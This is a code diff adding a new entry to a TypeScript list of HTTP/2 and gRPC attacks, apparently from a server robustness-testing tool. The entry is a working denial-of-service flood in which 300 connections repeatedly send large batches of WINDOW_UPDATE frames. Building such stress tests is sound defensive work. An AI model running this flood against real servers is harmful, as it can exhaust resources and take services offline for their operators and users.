@@ -220,6 +220,16 @@ export const grpcStreams: readonly Attack[] = [
     'WINDOW_UPDATE of the connection without end',
     frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
   ),
+  {
+    name: 'h2-window-flood-of-many',
+    what: 'WINDOW_UPDATE by 300 connections, each a little at a time',
+    short: true,
+    run: (target) =>
+      flood(target, 300, async (connection, isOver) => {
+        const chunk = filled(250 * 1024, frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])));
+        while (!isOver()) await Promise.all([connection.send(chunk), until(performance.now() + 260)]);
+      }),
+  },
   frames('h2-unknown-frames', 'frames of a type that does not exist', frame(0xbe, 0, 0, Buffer.alloc(1000))),
   {
     name: 'h2-empty-data-flood',
